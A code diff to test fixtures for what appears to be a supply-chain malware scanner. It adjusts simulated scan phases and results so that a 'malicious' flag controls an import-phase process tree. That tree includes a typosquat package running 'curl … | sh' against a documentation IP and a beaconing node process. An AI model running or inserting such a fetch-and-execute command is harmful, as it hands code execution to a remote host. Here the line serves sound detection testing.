@@ -171,7 +171,7 @@ def _alerts() -> list[Alert]:
     return [a1, a6, a2, a3, a4, a5]
 
 
-def _phases(install_tree: bool = True) -> list[PhaseResult]:
+def _phases(malicious: bool = True) -> list[PhaseResult]:
     fetch = PhaseResult(
         name="fetch", project="npm:package.json", command=["npm", "ci", "--ignore-scripts"], network="registry",
         started_at="2026-11-26T10:00:01.000000000Z", duration_s=9.0, exit_code=0, events=5120,
@@ -196,20 +196,20 @@ def _phases(install_tree: bool = True) -> list[PhaseResult]:
                 ]},
                 {"pid": 3120, "cmd": "sh -c node-gyp rebuild", "package": LEFTPAD.model_dump(), "children": []},
             ],
-        }] if install_tree else [],
+        }] if malicious else [],
     )
     imp = PhaseResult(
         name="import", project="npm:package.json", command=["node", "/opt/tracehound/node_import.js"],
         network="sinkhole", started_at="2026-11-26T10:00:45.000000000Z", duration_s=15.25, exit_code=0,
-        events=2880, unparsable=2,
-        survivors=[Survivor(pid=4242, command="node -e setInterval(beacon,1000)", phase="import")],
+        events=2880, unparsable=2 if malicious else 0,
+        survivors=[Survivor(pid=4242, command="node -e setInterval(beacon,1000)", phase="import")] if malicious else [],
         process_tree=[{
             "pid": 4100, "cmd": "node /opt/tracehound/node_import.js", "package": None,
             "children": [
                 {"pid": 4201, "cmd": "sh -c curl -s http://203.0.113.9/p | sh", "package": TYPO.model_dump(),
                  "children": []},
                 {"pid": 4242, "cmd": "node -e setInterval(beacon,1000)", "package": None, "children": []},
-            ],
+            ] if malicious else [],
         }],
     )
     return [fetch, install, imp]
@@ -285,14 +285,14 @@ def clean_result() -> ScanResult:
         status="completed",
         verdict="clean",
         fail_on="Warning",
-        started_at="2026-11-26T09:00:00.000000000Z",
-        finished_at="2026-11-26T09:00:31.000000000Z",
-        duration_s=31.0,
+        started_at="2026-11-26T10:00:00.000000000Z",
+        finished_at="2026-11-26T10:01:00.500000000Z",
+        duration_s=60.5,
         backend="ebpf",
         tool_versions={"tracehound": "0.1.0", "npm": "9.2.0"},
         ruleset={"files": ["rules/supply_chain.yaml"], "sha256": "9f2c4e1b", "rules": 24},
         projects=[ProjectResult(ecosystem="npm", manifest="package.json", lockfile="package-lock.json", packages=1)],
-        phases=_phases(install_tree=False),
+        phases=_phases(malicious=False),
         packages=[PackageResult(package=LEFTPAD, direct=True, verdict="clean", manifest="package-lock.json",
                                 manifest_line=7)],
         counters=Counters(events=18234),
